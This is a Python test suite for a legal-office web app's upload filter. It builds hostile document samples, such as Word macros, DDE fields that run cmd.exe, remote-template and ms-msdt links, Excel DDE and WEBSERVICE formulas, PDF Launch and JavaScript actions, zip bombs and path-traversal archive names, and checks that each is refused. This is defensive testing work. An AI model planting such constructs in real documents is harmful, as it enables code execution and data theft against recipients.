"""Files that run or fetch something, sent over HTTP by the people who send files: refused with the reason; ordinary ones pass."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import docx
import httpx
import openpyxl
import pypdf
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from assistant.answer.service import Assistant
from assistant.config import Settings
from assistant.desk.matters import matters
from assistant.desk.matters.matters import Material, MatterForm
from assistant.desk.matters.states import Step
from assistant.desk.matters.steps import Taken, submit, take
from assistant.desk.people.accounts import Role
from assistant.web.server import build_app
from tests.web.people import Site, signed_in
from tests.web.serving import running

LONG = 120  # a bound against hanging, not a measurement
DOCX_PATH = "word/document.xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Change = Callable[[dict[str, bytes]], Any]


# ---- documents -------------------------------------------------------------------------------


def word(*fields: str, text: str = "虚构的协议，双方应当遵守约定的内容，并在约定的期限以内办结。") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    for field in fields:
        run = document.add_paragraph().add_run()
        for kind in ("begin", "instr", "separate", "end"):
            if kind == "instr":
                for piece in (field[: len(field) // 2], field[len(field) // 2 :]):  # cut in two, as Word itself may do
                    element = OxmlElement("w:instrText")
                    element.text = piece
                    run._r.append(element)
            else:
                element = OxmlElement("w:fldChar")
                element.set(qn("w:fldCharType"), kind)
                run._r.append(element)
    return saved(document)


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel(formula: str = "=1+1") -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["B1"] = "甲", formula
    return saved(book)


def edited(data: bytes, change: Change) -> bytes:
    """A package whose parts somebody changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    change(parts)
    return packed(parts)


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def part(name: str, body: bytes) -> Change:
    return lambda parts: parts.update({name: body})


def content_type(before: str, after: str) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        kinds = parts["[Content_Types].xml"]
        assert before.encode() in kinds
        parts["[Content_Types].xml"] = kinds.replace(before.encode(), after.encode())

    return change


def relation(kind: str, target: str, rels: str = "word/_rels/document.xml.rels") -> Change:
    """One more relationship that leads outside."""
    line = f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'

    def change(parts: dict[str, bytes]) -> None:
        none = f'<Relationships xmlns="{RELATIONS.replace("officeDocument", "package")}"></Relationships>'.encode()
        parts[rels] = parts.get(rels, none).replace(b"</Relationships>", f"{line}</Relationships>".encode())

    return change


def pdf(change: Callable[[pypdf.PdfWriter], Any] = lambda w: None) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    return saved_pdf(writer)


def saved_pdf(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def named(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def action(kind: str, **entries: Any) -> DictionaryObject:
    return named(Type=NameObject("/Action"), S=NameObject(f"/{kind}"), **entries)


def opening(one: DictionaryObject) -> Callable[[pypdf.PdfWriter], Any]:
    return lambda writer: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(one)})


def on_page(**entries: Any) -> Callable[[pypdf.PdfWriter], Any]:
    """An annotation on the first page."""

    def change(writer: pypdf.PdfWriter) -> None:
        box = ArrayObject([NumberObject(n) for n in (10, 10, 50, 50)])
        note = named(Type=NameObject("/Annot"), Rect=box, **entries)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return change


def link(one: DictionaryObject) -> Callable[[pypdf.PdfWriter], Any]:
    return on_page(Subtype=NameObject("/Link"), A=one)


def in_object_stream(hidden: bytes) -> bytes:
    """A PDF whose catalogue lies packed in an object stream: its bytes say nothing of what it does."""
    inner = b"<</Type/Catalog/Pages 2 0 R/OpenAction " + hidden + b">>"
    stream = StreamObject()
    stream.set_data(b"1 0 " + inner)
    packed_stream = stream.flate_encode()
    data = packed_stream._data
    body, places = b"%PDF-1.7\n", {}
    for number, text in (
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(data) + data + b"\nendstream"),
    ):
        places[number] = len(body)
        body += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    at = len(body)
    rows = [(0, 0, 65535), (2, 4, 0), *((1, places[n], 0) for n in (2, 3, 4)), (1, at, 0)]
    table = b"".join(bytes([k]) + p.to_bytes(4, "big") + g.to_bytes(2, "big") for k, p, g in rows)
    head = b"<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>" % len(table)
    return body + b"5 0 obj\n" + head + b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at


WORD = word()
EXCEL = excel()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ\x90\x00" + bytes(600)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
MAIN = "wordprocessingml.document.main+xml"
SETTINGS_RELS = "word/_rels/settings.xml.rels"

#: Name → (file, what the reason says).
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "macros": ("材料.docx", edited(WORD, part("word/vbaProject.bin", OLE)), "宏"),
    "macros under another name": ("材料.docx", edited(WORD, part("word/notes.bin", OLE)), "夹带"),
    "a macro document by its type": (
        "材料.docx",
        edited(
            WORD,
            content_type(f"application/vnd.openxmlformats-officedocument.{MAIN}", "application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        "宏",
    ),
    "a program": ("材料.docx", edited(WORD, part("word/media/image1.png", PROGRAM)), "夹带"),
    "a program that says it is a sheet": ("材料.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", PROGRAM)), "夹带"),
    "a packed program": ("材料.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", packed({"a.exe": PROGRAM}))), "夹带"),
    "macros in a sheet within": (
        "材料.docx",
        edited(WORD, part("word/embeddings/Sheet1.xlsx", edited(EXCEL, part("xl/vbaProject.bin", OLE)))),
        "宏",
    ),
    "an object": ("材料.docx", edited(WORD, part("word/embeddings/oleObject1.bin", OLE)), "嵌入的程序"),
    "an old sheet": ("材料.docx", edited(WORD, part("word/embeddings/Sheet.xls", OLE)), "夹带"),
    "a control": ("材料.docx", edited(WORD, part("word/activeX/activeX1.xml", b"<x/>")), "嵌入的程序"),
    "DDE": ("材料.docx", word(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "域"),
    "DDE in small letters": ("材料.docx", word(r" dde cmd x"), "域"),
    "DDE in a simple field": (
        "材料.docx",
        edited(
            WORD,
            lambda p: p.update(
                {DOCX_PATH: p[DOCX_PATH].replace(b"<w:sectPr", b'<w:p><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p><w:sectPr', 1)}
            ),
        ),
        "域",
    ),
    "text from elsewhere": ("材料.docx", word('INCLUDETEXT "http://192.0.2.1/x.docx"'), "域"),
    "a picture field from elsewhere": ("材料.docx", word(r'INCLUDEPICTURE "\\\\192.0.2.1\\x\\y.png" \d'), "域"),
    "a template from elsewhere": (
        "材料.docx",
        edited(WORD, relation("attachedTemplate", "http://192.0.2.1/x.dotm", SETTINGS_RELS)),
        "外部模板",
    ),
    "a template of the network": (
        "材料.docx",
        edited(WORD, relation("attachedTemplate", r"\\192.0.2.1\x\y.dotm", SETTINGS_RELS)),
        "外部模板",
    ),
    "a picture from elsewhere": ("材料.docx", edited(WORD, relation("image", "http://192.0.2.1/x.png")), "外部图片"),
    "an object from elsewhere": ("材料.docx", edited(WORD, relation("oleObject", "http://192.0.2.1/x")), "嵌入的程序"),
    "a frame from elsewhere": ("材料.docx", edited(WORD, relation("frame", "http://192.0.2.1/x.htm")), "外部内容"),
    "a link that runs": ("材料.docx", edited(WORD, relation("hyperlink", "ms-msdt:/id PCWDiagnostic")), "不寻常的链接"),
    "a link to a share": ("材料.docx", edited(WORD, relation("hyperlink", "file://192.0.2.1/x/y.exe")), "不寻常的链接"),
    "entities": ("材料.docx", edited(WORD, lambda p: p.update({DOCX_PATH: b'<!DOCTYPE x [<!ENTITY a "b">]>' + p[DOCX_PATH]})), "DOCTYPE"),
    "two parts of one name": (
        "材料.docx",
        edited(WORD, part("WORD/document.XML", b"<x/>")),
        "重名",
    ),
    "something before it": ("材料.docx", b"PK\x03\x04" + bytes(26) + WORD, "夹带了别的内容"),
    "a bomb": ("材料.docx", edited(WORD, part("word/media/image1.png", PNG + bytes(60 << 20))), "压缩炸弹"),
    "macros in a table": ("材料.xlsx", edited(EXCEL, part("xl/vbaProject.bin", OLE)), "宏"),
    "an old macro sheet": (
        "材料.xlsx",
        edited(EXCEL, content_type("spreadsheetml.worksheet+xml", "spreadsheetml.macrosheet+xml")),
        "宏",
    ),
    "DDE in a cell": ("材料.xlsx", excel("=cmd|'/c calc'!A0"), "公式"),
    "an address in a cell": ("材料.xlsx", excel('=_xlfn.WEBSERVICE("http://192.0.2.1/"&A1)'), "公式"),
    "a link to another program": (
        "材料.xlsx",
        edited(EXCEL, part("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>')),
        "数据源",
    ),
    "a link to another table": (
        "材料.xlsx",
        edited(EXCEL, relation("externalLinkPath", "http://192.0.2.1/x.xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels")),
        "外部",
    ),
    "DDE in plain text": ("材料.csv", "甲,乙\n1,=cmd|'/c calc'!A0\n".encode(), "公式"),
    "a table in another dress": ("材料.csv", b"ID;P\nO;E\nC;K1;X1;Y1;ECALL()\nE\n", "不是可以上传"),
    "a program started": ("材料.pdf", pdf(opening(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
    "a program by pressing": ("材料.pdf", pdf(link(action("Launch", F=TextStringObject("cmd.exe")))), "启动程序"),
    "a script": ("材料.pdf", pdf(opening(action("JavaScript", JS=TextStringObject("app.alert(1)")))), "脚本"),
    "a script after something else": (
        "材料.pdf",
        pdf(opening(action("GoTo", D=TextStringObject("x"), Next=action("JavaScript", JS=TextStringObject("x"))))),
        "脚本",
    ),
    "a script on a page": (
        "材料.pdf",
        pdf(lambda w: w.pages[0].update({NameObject("/AA"): named(O=action("JavaScript", JS=TextStringObject("x")))})),
        "脚本",
    ),
    "a script in other letters": (
        "材料.pdf",
        pdf(opening(action("JavaScript", JS=TextStringObject("x")))).replace(b"/JavaScript", b"/J#61vaScript"),
        "脚本",
    ),
    "a script in a packed object": ("材料.pdf", in_object_stream(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "脚本"),
    "a program in a packed object": ("材料.pdf", in_object_stream(b"<</S/Launch/F(cmd.exe)>>"), "启动程序"),
    "a file within": ("材料.pdf", pdf(lambda w: w.add_attachment("x.exe", PROGRAM)), "嵌入的文件"),
    "an address by itself": ("材料.pdf", pdf(opening(action("URI", URI=TextStringObject("http://192.0.2.1/")))), "自行运行"),
    "a form that goes out": ("材料.pdf", pdf(link(action("SubmitForm", F=TextStringObject("http://192.0.2.1/")))), "提交表单"),
    "another file opened": ("材料.pdf", pdf(link(action("GoToR", F=TextStringObject("\\\\192.0.2.1\\x\\y.pdf")))), "动作"),
    "a link that runs in a PDF": ("材料.pdf", pdf(link(action("URI", URI=TextStringObject("javascript:alert(1)")))), "不寻常的链接"),
    "a locked one": ("材料.pdf", pdf(lambda w: w.encrypt("secret")), "加密"),
    "two kinds at once": ("材料.pdf", pdf() + packed({"a.exe": PROGRAM}), "夹带"),
    "a picture that is a PDF": ("材料.png", PNG + pdf(), "又是 PDF"),
    "a picture that is an archive": ("材料.png", PNG + packed({"a.exe": PROGRAM}), "夹带"),
    "a program as text": ("材料.txt", PROGRAM, "不是可以上传"),
    "a document as text": ("材料.txt", rb"{\rtf1 {\field{\*\fldinst DDEAUTO cmd x}}}", "不是可以上传"),
    "an archive": ("材料.zip", packed({"a.txt": b"x"}), "不是可以上传"),
}


def with_link() -> bytes:
    return edited(WORD, relation("hyperlink", "https://www.example.gov.cn/a?b=1"))


def with_fields() -> bytes:
    return word("PAGE", r"TOC \o \h", 'HYPERLINK "https://www.example.gov.cn"', r"eq \o\ac(○,1)", "DATE", "PRINTDATE", "REF DataX")


ORDINARY: dict[str, tuple[str, bytes]] = {
    "a document": ("协议.docx", WORD),
    "a document with a link": ("协议.docx", with_link()),
    "a document with a link into a mail": ("协议.docx", edited(WORD, relation("hyperlink", "mailto:a@example.gov.cn"))),
    "a document with fields": ("协议.docx", with_fields()),
    "a document with a picture": ("协议.docx", edited(WORD, part("word/media/image1.png", PNG))),
    "a document with a chart's sheet": ("协议.docx", edited(WORD, part("word/embeddings/Sheet1.xlsx", EXCEL))),
    "a document of the bureau's template": (
        "协议.docx",
        edited(WORD, relation("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Normal.dotm", SETTINGS_RELS)),
    ),
    "a table": ("清单.xlsx", EXCEL),
    "a table with formulas": ("清单.xlsx", excel('=SUM(A1:A3)&"|"&Sheet!B1&IF(A1>1,"是!","否")')),
    "a PDF": ("材料.pdf", pdf()),
    "a PDF with a link": ("材料.pdf", pdf(link(action("URI", URI=TextStringObject("https://www.example.gov.cn"))))),
    "a PDF that opens at a page": ("材料.pdf", pdf(opening(action("GoTo", D=TextStringObject("x"))))),
    "a PDF of packed objects": ("材料.pdf", in_object_stream(b"<</S/GoTo/D(x)>>")),
    "a locked PDF that all may read": ("材料.pdf", pdf(lambda w: w.encrypt("", "owner"))),
    "a picture": ("照片.png", PNG),
    "a text": ("说明.txt", "虚构的说明".encode()),
    "a page as text": ("页面.txt", b"<html><script>alert(1)</script></html>"),
    "a list": ("清单.csv", "甲,乙\n-1,=A1+1\n".encode()),
}


# ---- the server ------------------------------------------------------------------------------


class Person(httpx.Client):
    """Somebody signed in, who waits for what they hand in."""

    def hand_in(self, path: str, **form: Any) -> httpx.Response:
        page = self.post(path, **form)
        while ("/work/" in str(page.url) and 'data-over="1"' not in page.text) or 'data-over=""' in page.text:
            time.sleep(0.1)
            page = self.get(str(page.url))
        return page


@pytest.fixture(scope="module")
def site(assistant: Assistant) -> Iterator[Site]:
    """The application with room for what these tests send, and workers that have all the time they need."""
    settings = assistant.settings.model_copy(update={"worker_seconds": LONG})
    other = Assistant(settings, assistant.engine)
    with running(build_app(other), settings) as served:
        yield served


@pytest.fixture(scope="module")
def office(assistant: Assistant, site: Site) -> Iterator[Person]:
    with person(assistant, site, Role.REVIEWER, "attaching") as found:
        yield found


def person(assistant: Assistant, site: Site, role: Role, login: str, section: str = "执法队") -> Person:
    token = signed_in(assistant.engine, assistant.settings, role, login, section)[1]
    return Person(base_url=str(site), cookies={"assistant_session": token}, follow_redirects=True, timeout=LONG)


_numbers = iter(range(1, 10_000))


def attach(client: Person, name: str, data: bytes) -> httpx.Response:
    form = {"title": "虚构事项", "question": "虚构的问题？", "urgency": "一般", "days": "5", "firm": "", "key": f"k{next(_numbers)}"}
    return client.post("/staff/matters/new", data=form, files={"files": (name, data)})


def kept(settings: Settings) -> int:
    return sum(1 for p in (settings.home / "attachments").rglob("*") if p.is_file())


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_runs_or_fetches_is_not_attached(office: Person, assistant: Assistant, name: str) -> None:
    file, data, reason = HOSTILE[name]
    before = kept(assistant.settings)
    page = attach(office, file, data)
    assert page.status_code == 400 and reason in page.text, (page.status_code, told(page))
    assert "请" in told(page) or "可上传" in told(page)
    assert kept(assistant.settings) == before


def told(page: httpx.Response) -> str:
    """What the page says went wrong."""
    found = re.search(r'role="alert"[^>]*>(.*?)</', page.text, re.S)
    return found[1].strip() if found else page.text[:2000]


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_file_is_attached_and_comes_back_to_be_saved(office: Person, name: str) -> None:
    file, data = ORDINARY[name]
    page = attach(office, file, data)
    assert page.status_code == 200 and "/staff/matters/" in str(page.url), told(page)
    at = page.text.index(f"{page.url.path}/files/")
    back = office.get(page.text[at : page.text.index('"', at)])
    assert back.content == data
    assert back.headers["content-disposition"].startswith("attachment;") and back.headers["x-content-type-options"] == "nosniff"
    assert "html" not in back.headers["content-type"] and "svg" not in back.headers["content-type"]


READ = [n for n, (file, _, _) in HOSTILE.items() if file.endswith((".docx", ".pdf")) and n not in ("two kinds at once",)]


@pytest.mark.parametrize("name", READ)
def test_no_desk_reads_such_a_file(office: Person, name: str) -> None:
    file, data, reason = HOSTILE[name]
    page = office.hand_in("/staff/verify", files={"file": (file, data)})
    assert reason in page.text, told(page)
    page = office.hand_in("/staff/reviews/new", data={"kind": "contract"}, files={"files": (file, data)})
    assert reason in page.text, told(page)


@pytest.mark.parametrize("name", ["macros", "DDE", "a template from elsewhere", "a program started", "a script in a packed object"])
def test_neither_cases_nor_imports_nor_archives_take_such_a_file(office: Person, name: str) -> None:
    file, data, reason = HOSTILE[name]
    inside = packed({f"材料/{file}": data})
    for path, form, files in (
        ("/staff/cases/new", {}, {"files": (file, data)}),
        ("/staff/cases/new", {}, {"files": ("案卷.zip", inside)}),
        ("/staff/reviews/new", {"kind": "penalty"}, {"files": ("案卷.zip", inside)}),
        ("/staff/documents/import", {"origin": "虚构公报"}, {"files": (file, data)}),
    ):
        page = office.hand_in(path, data=form, files=files)
        assert reason in page.text, (path, told(page))


def encrypted(data: bytes) -> bytes:
    """An archive whose members say that they are locked."""
    body = bytearray(data)
    body[body.index(b"PK\x03\x04") + 6] |= 1
    body[body.index(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


ARCHIVES: dict[str, tuple[bytes, str]] = {
    "an archive within": (packed({"内.zip": packed({"a.txt": b"x"})}), "压缩包里还有压缩包"),
    "a program": (packed({"a.exe": PROGRAM}), "格式不支持"),
    "a locked member": (encrypted(packed({"a.txt": b"x" * 50})), "加密"),
    "too many": (packed({f"{n}.txt": b"x" for n in range(1500)}), "超过上限"),
    "a bomb": (packed({"a.txt": b"x" * (150 << 20)}), "压缩炸弹"),
    "names that lead elsewhere": (packed({"../../../pwned.exe": b"x"}), "格式不支持"),
    "one name twice": (packed({"a.txt": b"x", "A.TXT": b"x"}), "重名"),
    "cut off": (packed({"a.txt": b"x" * 500})[:-20], "损坏"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_an_archive_is_measured_before_it_is_read(office: Person, name: str) -> None:
    data, reason = ARCHIVES[name]
    for path in ("/staff/reviews/new", "/staff/cases/new"):
        page = office.hand_in(path, data={"kind": "penalty"}, files={"files": ("案卷.zip", data)})
        assert reason in page.text, (path, told(page))


def test_the_firm_sends_no_such_file_either(assistant: Assistant, site: Site) -> None:
    engine, settings = assistant.engine, assistant.settings
    owner, _ = signed_in(engine, settings, Role.STAFF, "attach-owner")
    counsel, token = signed_in(engine, settings, Role.COUNSEL, "attach-counsel", "虚构律师事务所")
    matter = matters.open_matter(engine, owner, MatterForm("虚构事项", "虚构的问题？", firm="虚构律师事务所"), Material(), "attach-open")
    submit(engine, settings, owner, matter, 1, "attach-sent")
    seen = take(engine, settings, counsel, matter, Taken(Step.ACCEPT, 2, "attach-taken")).version
    with Person(base_url=str(site), cookies={"assistant_session": token}, follow_redirects=True, timeout=LONG) as client:
        for name in ("macros", "a script in a packed object", "a picture that is an archive"):
            file, data, reason = HOSTILE[name]
            form = {"version": str(seen), "key": f"f{next(_numbers)}", "text": "见附件"}
            page = client.post(f"/counsel/matters/{matter}/steps/message", data=form, files={"files": (file, data)})
            assert page.status_code == 400 and reason in page.text, told(page)
            if file.endswith((".docx", ".pdf")):
                page = client.post(f"/counsel/matters/{matter}/opinion/upload", data=form | {"version": "0"}, files={"files": (file, data)})
                assert reason in page.text, told(page)
